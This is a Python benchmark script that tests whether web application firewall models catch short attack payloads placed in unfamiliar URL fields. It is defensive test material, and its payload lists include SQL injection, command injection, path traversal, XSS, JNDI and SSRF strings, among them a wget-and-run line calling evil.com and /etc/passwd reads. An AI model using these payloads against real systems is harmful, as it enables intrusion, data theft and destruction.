"""Short classic payloads and short benign values in fields of endpoints no template has.

The corpora put payloads into a few fixed fields; this asks whether a model judges the
value or the field: 23 classic payloads (SQL, shell, traversal, XSS, SSTI, JNDI, SSRF)
and 10 ordinary short values, each as a query value of 7 (path, field) pairs that no
training template uses. Prints misses and false positives per model, and per payload.
A second table asks the same of 12 stacked queries after a number (`5; delete from
orders`), the shape the `<eos>` recipe was unsteady on, in 5 fields.

    .venv/bin/python benchmarks/short_payloads.py [MODEL_DIR ...]   # default: models/default
"""

from __future__ import annotations

import argparse
import sys
from collections import Counter
from pathlib import Path
from urllib.parse import quote

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from waf_proxy.engine.artifacts import load_scorer
from waf_proxy.inspect import RequestView

ATTACKS = (
    "127.0.0.1;cat /etc/passwd", "127.0.0.1 | id", "8.8.8.8 && whoami", "`id`", "$(cat /etc/passwd)",
    "x;wget http://evil.com/s.sh -O /tmp/s;sh /tmp/s", "1;ls -la", "; uname -a", "|| ping -c 10 127.0.0.1",
    "admin'--", "admin' or '1'='1", "1 or 1=1", "' union select null,null--", "1; drop table users",
    "1' and sleep(5)#", "../../etc/passwd", "..%2f..%2fwindows/win.ini", "<svg onload=alert(1)>",
    "<script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x.com/a}",
    "http://169.254.169.254/latest/meta-data/",
)
BENIGN = ("o'brien", "it's fine", "select a size", "rock & roll", "c++ vs c#", "50% off", "1-2 days",
          "john.doe@example.com", "drop me a line", "hello world")
STACKED = ("1; drop table users", "5; delete from orders", "10; truncate table logs", "2; update users set admin=1",
           "7; insert into users values(1)", "3; drop database shop", "1; shutdown", "4; exec xp_cmdshell 'dir'",
           "1; select pg_sleep(5)", "9; alter table users drop column pw", "12;drop table accounts",
           "0; delete from sessions where 1=1")
STACKED_FIELDS = (("/ping", "host"), ("/account", "username"), ("/files", "file"), ("/item", "id"), ("/search", "q"))
FIELDS = (("/ping", "host"), ("/account", "username"), ("/files", "file"), ("/x", "q"), ("/api/run", "cmd"),
          ("/search", "term"), ("/login", "email"))


# The same request with no headers (a script, a scanner) and as a browser sends it: a
# model that learned the client as much as the value detects one and not the other.
HEADERS = {
    "none": (),
    "browser": (("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"), ("accept", "*/*")),
}


def scores(
    scorer, values: tuple[str, ...], headers: tuple = (), fields: tuple = FIELDS
) -> list[tuple[str, str, float]]:
    """(field, value, score) for each value in each field: one batch, as the proxy would score them."""
    views = [RequestView("GET", path, f"{field}={quote(v)}", headers) for path, field in fields for v in values]
    keys = [(field, v) for _, field in fields for v in values]
    return [(f, v, r.score) for (f, v), r in zip(keys, scorer.score_batch(views))]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("models", nargs="*", default=["models/default"])
    args = ap.parse_args(argv)
    scorers = {model: load_scorer(model, threads=1) for model in args.models}  # loaded once for both tables
    print("| model | headers | attacks missed | benign flagged | missed most |")
    print("|---|---|---:|---:|---|")
    for model, scorer in scorers.items():
        for name, headers in HEADERS.items():
            missed = [(f, v) for f, v, s in scores(scorer, ATTACKS, headers) if s < scorer.threshold]
            flagged = [(f, v) for f, v, s in scores(scorer, BENIGN, headers) if s >= scorer.threshold]
            top = ", ".join(f"`{v}` ({n})".replace("|", "\\|") for v, n in Counter(v for _, v in missed).most_common(4))
            print(f"| {model} ({scorer.version}) | {name} | {len(missed)} / {len(ATTACKS) * len(FIELDS)} "
                  f"| {len(flagged)} / {len(BENIGN) * len(FIELDS)} | {top} |")
    print("\n| model | headers | stacked queries caught | missed most |")
    print("|---|---|---:|---|")
    for model, scorer in scorers.items():
        for name, headers in HEADERS.items():
            missed = [v for _, v, s in scores(scorer, STACKED, headers, STACKED_FIELDS) if s < scorer.threshold]
            total = len(STACKED) * len(STACKED_FIELDS)
            top = ", ".join(f"`{v}` ({n})" for v, n in Counter(missed).most_common(3))
            print(f"| {model} ({scorer.version}) | {name} | {total - len(missed)} / {total} | {top} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
